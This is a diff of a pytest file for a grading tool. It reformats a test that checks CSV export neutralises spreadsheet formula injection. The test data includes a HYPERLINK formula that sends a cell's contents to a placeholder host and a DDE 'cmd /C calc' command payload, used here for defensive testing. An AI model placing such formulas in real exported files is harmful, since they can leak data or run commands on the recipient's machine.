@@ -460,7 +460,10 @@ def test_a_canvas_roster_names_the_class(tmp_path):
 @pytest.mark.parametrize(
     ("written", "read"),
     [
-        ('=HYPERLINK("http://example.invalid/?"&A1,"open")', '\'=HYPERLINK("http://example.invalid/?"&A1,"open")'),
+        (
+            '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+            '\'=HYPERLINK("http://example.invalid/?"&A1,"open")',
+        ),
         ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
         ("@SUM(1+1)", "'@SUM(1+1)"),
         ("-2+3", "'-2+3"),
@@ -472,7 +475,9 @@ def test_a_canvas_roster_names_the_class(tmp_path):
 def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path, written, read):
     from grader import reports
 
-    reports._write_csv(tmp_path / "x.csv", ("student", "code", "score"), [{"student": "ann", "code": written, "score": 1}])
+    reports._write_csv(
+        tmp_path / "x.csv", ("student", "code", "score"), [{"student": "ann", "code": written, "score": 1}]
+    )
     with open(tmp_path / "x.csv", newline="") as f:
         (row,) = list(csv.DictReader(f))
     assert (row["code"], row["score"]) == (read, "1")
